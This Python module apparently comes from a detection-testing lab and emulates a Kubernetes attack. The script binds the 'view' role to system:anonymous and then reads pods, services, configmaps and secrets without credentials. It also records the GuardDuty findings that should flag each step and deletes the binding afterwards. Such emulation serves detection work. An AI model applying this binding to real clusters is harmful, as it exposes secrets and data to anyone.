"""Attack: door opened for everybody.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="anonymous-access",
    title="Door opened for everybody",
    technique=base.Technique(id="T1078.001", name="Default Accounts", tactic="Initial Access"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.OBVIOUS,
    does="Binds the viewing role to anonymous users and comes back without any credential.",
    seen_by="A binding whose subject is system:anonymous, then successful anonymous reads.",
    cleans_up="The binding is deleted.",
    victim=base.Part.ADMIN,
    reach=base.Reach.CLUSTER,
    catalogues=(
        "GuardDuty: AnonymousAccessGranted",
        "GuardDuty: SuccessfulAnonymousAccess",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ADMIN)
    thief = ctx.act_as(victim)
    name = ctx.name("public-status")
    namespace = ctx.home or victim.namespace or ctx.namespaces()[0]
    bindings = paths.group(paths.RBAC, "rolebindings", namespace)
    ctx.remove_later(f"{bindings}/{name}")
    body = {
        "apiVersion": paths.RBAC,
        "kind": "RoleBinding",
        "metadata": {"name": name},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "system:anonymous"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
    }
    yield thief.create(bindings, body)
    nobody = base.Identity(
        username="system:anonymous",
        part=base.Part.ADMIN,
        namespace="",
        credential=base.Credential(),
        source_ip=ctx.stranger_ip(),
        user_agent=context.CURL,
    )
    ghost = ctx.act_as(nobody)
    for resource in ("pods", "services", "configmaps", "secrets"):
        yield ghost.get(paths.core(resource, namespace), {"limit": 500})


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
